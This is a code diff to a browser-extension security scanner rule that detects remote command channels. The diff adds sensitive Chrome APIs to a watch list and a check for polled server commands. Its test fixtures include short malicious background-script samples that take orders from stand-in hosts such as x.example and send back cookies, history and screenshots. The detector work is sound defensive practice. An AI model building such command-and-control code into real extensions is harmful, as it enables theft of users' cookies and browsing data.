@@ -1,12 +1,12 @@
-import { callsOf, GuardKind, type ScriptFacts } from '../../facts/javascript/query.ts';
-import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts } from './checkScripts.ts';
-import { isFromServer } from './network.ts';
+import { apiPath, callsOf, GuardKind, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule, type Hit } from '../../rule.ts';
+import { backgroundExample, checkScripts, type Judged } from './checkScripts.ts';
+import { isFromServer, requestsOf } from './network.ts';
 import { originsOf } from './origins.ts';
-import { usageOf } from './usage.ts';
+import { few, usageOf } from './usage.ts';
 
 /** Powers that nobody gives away to a server without meaning it. */
-const POWERS = ['chrome.tabs.executeScript', 'chrome.scripting.executeScript', 'chrome.cookies.getAll', 'chrome.history.search', 'chrome.tabs.captureVisibleTab', 'chrome.management.setEnabled', 'chrome.proxy.settings.set', 'chrome.debugger.sendCommand', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.downloads.download', 'chrome.browsingData.remove', 'chrome.windows.create', 'chrome.runtime.sendNativeMessage', 'fetch', 'chrome.tabs.query', 'chrome.bookmarks.getTree'];
+const POWERS = ['chrome.tabs.executeScript', 'chrome.scripting.executeScript', 'chrome.cookies.getAll', 'chrome.history.search', 'chrome.tabs.captureVisibleTab', 'chrome.management.setEnabled', 'chrome.proxy.settings.set', 'chrome.debugger.sendCommand', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.downloads.download', 'chrome.browsingData.remove', 'chrome.windows.create', 'chrome.runtime.sendNativeMessage', 'fetch', 'chrome.tabs.query', 'chrome.bookmarks.getTree', 'chrome.declarativeNetRequest.updateDynamicRules', 'chrome.webRequest.onBeforeRequest.addListener', 'chrome.webRequest.onBeforeSendHeaders.addListener', 'chrome.scripting.registerContentScripts'];
 const WEAK: ReadonlySet<string> = new Set(['fetch', 'chrome.tabs.query', 'chrome.tabs.create', 'chrome.tabs.update', 'chrome.windows.create']);
 
 export const commandChannel = defineRule({
@@ -20,8 +20,10 @@ export const commandChannel = defineRule({
   references: ['https://attack.mitre.org/techniques/T1071/001/', 'https://attack.mitre.org/techniques/T1176/'],
   why: 'Somebody at the other end can use the browser of each person as if it were theirs: read, click, open pages, take cookies. This is how banking trojans in extensions work.',
   remedy: 'Let a server send data for one purpose. What the extension does must be decided in its own code.',
-  check: checkScripts(function* ({ script, hit }) {
+  check: checkScripts(function* (judged) {
+    const { script, hit } = judged;
     const channels = callsOf(script, 'WebSocket', 'EventSource', 'io', 'io.connect', 'mqtt.connect', 'chrome.gcm.onMessage.addListener', 'chrome.instanceID.getToken');
+    yield* polled(judged, channels.length > 0);
     if (channels.length === 0) return;
     const handlers = handlersOf(script, new Set(channels.map((call) => call.value)));
     const used = new Map<string, number>();
@@ -44,14 +46,36 @@ export const commandChannel = defineRule({
     bad: [
       backgroundExample('const ws = new WebSocket("wss://x.example/c"); ws.onmessage = async (e) => { const m = JSON.parse(e.data); switch (m.cmd) { case "cookies": ws.send(JSON.stringify(await chrome.cookies.getAll({}))); break; case "history": chrome.history.search({ text: "" }, (h) => ws.send(JSON.stringify(h))); break; case "open": chrome.tabs.create({ url: m.url }); break; } };'),
       backgroundExample('const ws = new WebSocket(host); ws.addEventListener("message", (e) => run(JSON.parse(e.data))); function run(m) { if (m.type === "inject") chrome.scripting.executeScript({ target: { tabId: m.tab }, files: [m.file] }); if (m.type === "shot") chrome.tabs.captureVisibleTab((u) => ws.send(u)); }'),
+      backgroundExample('setInterval(async () => { const t = await (await fetch("https://x.example/task")).json(); if (t.cmd === "cookies") report(await chrome.cookies.getAll({})); else if (t.cmd === "history") report(await chrome.history.search({ text: "" })); }, 3e4);'),
       backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { chrome.tabs.create({ url: JSON.parse(e.data).url }); };'),
     ],
     good: [
+      backgroundExample('async function sync() { const d = await (await fetch("https://api.example.com/s")).json(); if (d.status === "ok") chrome.action.setBadgeText({ text: d.count }); if (mode === "x") chrome.cookies.getAll({}, count); } setInterval(sync, 6e4);'),
       backgroundExample('const ws = new WebSocket("wss://chat.example.com"); ws.onmessage = (e) => { chrome.notifications.create({ type: "basic", title: "New", message: JSON.parse(e.data).text }); };'),
       backgroundExample('const ws = new WebSocket("ws://localhost:35729"); ws.onmessage = () => chrome.runtime.reload(); chrome.tabs.query({ active: true }, (t) => show(t)); chrome.cookies.getAll({}, count); chrome.history.search({ text: "" }, list);'),
     ],
   },
 });
+
+/** Commands fetched from time to time: powers under comparisons of what a server answered. */
+function* polled({ script, hit }: Judged, hasChannel: boolean): Generator<Hit> {
+  if (hasChannel) return; // its messages are judged by what handles them
+  const powers = callsOf(script, ...POWERS.filter((path) => !WEAK.has(path)));
+  if (powers.length === 0 || requestsOf(script).length === 0) return;
+  const used = new Map<string, number>();
+  for (let at = 0, seen = 0; at < script.guards.length && seen < 2000; at += 5, seen++) {
+    const kind = script.guards[at + 1];
+    if (kind !== GuardKind.equals || (script.lists[script.guards[at + 4] as number] ?? 0) === 0) continue;
+    const start = script.guards[at + 2] as number;
+    const end = script.guards[at + 3] as number;
+    const inside = few(powers, 200).filter((call) => call.pos >= start && call.pos < end);
+    if (inside.length === 0 || !isFromServer(script, script.guards[at] as number)) continue;
+    for (const call of inside) used.set(apiPath(script, call.callee) ?? '', call.value);
+  }
+  const [first] = used;
+  if (first === undefined) return;
+  yield hit(first[1], { ...(used.size >= 2 ? { severity: 'critical' as const } : { severity: 'medium' as const, confidence: 'medium' as const }), message: `What a server answers leads to ${[...used.keys()].join(', ')}.` });
+}
 
 /** Functions that run when a channel says something, and those that they call with it. */
 function handlersOf(script: ScriptFacts, channels: ReadonlySet<number>): { start: number; end: number }[] {
